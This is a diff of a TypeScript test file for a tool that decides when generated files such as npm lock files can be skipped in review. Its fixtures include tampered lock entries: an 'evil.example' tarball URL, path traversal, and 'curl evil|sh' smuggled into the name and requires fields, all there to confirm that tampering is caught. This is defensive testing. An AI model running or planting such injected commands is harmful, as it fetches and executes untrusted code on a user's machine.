@@ -88,6 +88,11 @@ describe("files of data that nobody writes", () => {
     expect(skippedIn(await leave([{ ...SOURCE, head }, file]))[file.path]).toBeUndefined();
   });
 
+  it.each(KINDS)("are read where they come from another path: a %s", async (_, file) => {
+    const moved = { ...file, oldPath: `old/${file.path}` };
+    expect(skippedIn(await leave([SOURCE, moved]))[file.path]).toBeUndefined();
+  });
+
   it("are left where prose, a list of ignored files or the comment of a script alone names them", async () => {
     const names = ["README.md", ".eslintignore"].map((path) => ({ path, text: "app.js.map\n" }));
     const untouched = [...names, { path: "d/app.js", text: "//# sourceMappingURL=app.js.map" }].map(
@@ -202,6 +207,14 @@ it.each<readonly [string, string | undefined]>([
   ["asks for an address", aLock(anEntry("1.2.1", { dependencies: { evil: "https://evil.example/x.tgz" } }))],
   ["has a key of another name", aLock(anEntry("1.2.1", { scripts: { install: "x" } }))],
   ["lies in a folder outside", aLock(anEntry("1.2.0"), { "node_modules/../left-pad": anEntry("1.2.1") })],
+  ["moves a package back", aLock(anEntry("1.1.9"))],
+  ["moves a package to what comes before a release", aLock(anEntry("2.0.0-rc.1"))],
+  ["asks for a folder above", aLock(anEntry("1.2.1", { dependencies: { evil: ".." } }))],
+  ["asks for a file", aLock(anEntry("1.2.1", { dependencies: { evil: "evil.tgz" } }))],
+  ["brings a package", aLock(anEntry("1.2.1"), { "node_modules/a/node_modules/left-pad": anEntry("1.2.1") })],
+  ["takes a package away", aLock(anEntry("1.2.1")).replaceAll("node_modules/left-pad", "node_modules/right-pad")],
+  ["has another word for what it requires", MOVED.replace('"requires": true', '"requires": "curl evil|sh"')],
+  ["has another name", MOVED.replace('"name": "x",', '"name": "curl evil|sh",')],
   [
     "names an entry twice",
     MOVED.replace('"node_modules/left-pad": {', '"node_modules/left-pad": {},\n    "node_modules/left-pad": {'),
@@ -212,6 +225,25 @@ it.each<readonly [string, string | undefined]>([
   const file = { path: "package-lock.json", base: LOCKED, ...(head === undefined ? {} : { head }) };
   expect(skippedIn(await leave([SOURCE, file]))["package-lock.json"]).toBeUndefined();
   expect(skippedIn(await leave([file]))["package-lock.json"]).toBeUndefined();
+});
+
+it("a lock file of npm is read that is new, moved from another folder, or has a name that came from elsewhere too", async () => {
+  const at = (base: object, head: object) => ({ path: "package-lock.json", base: aLock(base), head: aLock(head) });
+  const elsewhere = { ...anEntry("1.2.0"), resolved: "https://npm.corp.example/left-pad/-/left-pad-1.2.0.tgz" };
+  const [one, other] = [LOCKED, MOVED].map((lock) =>
+    lock.replace(
+      '"node_modules/left-pad": {',
+      `"node_modules/a/node_modules/left-pad": ${JSON.stringify(elsewhere)},\n"node_modules/left-pad": {`,
+    ),
+  );
+  const laidOut = (lock = "") => `${JSON.stringify(JSON.parse(lock), null, 2)}\n`;
+  const files: readonly FakeFile[] = [
+    { path: "package-lock.json", head: MOVED },
+    { path: "sub/package-lock.json", oldPath: "package-lock.json", base: LOCKED, head: MOVED },
+    { path: "package-lock.json", base: laidOut(one), head: laidOut(other) },
+    at(elsewhere, anEntry("1.2.1")),
+  ];
+  for (const file of files) expect(Object.values(skippedIn(await leave([SOURCE, file])))).not.toContain("lock-file");
 });
 
 it.each([
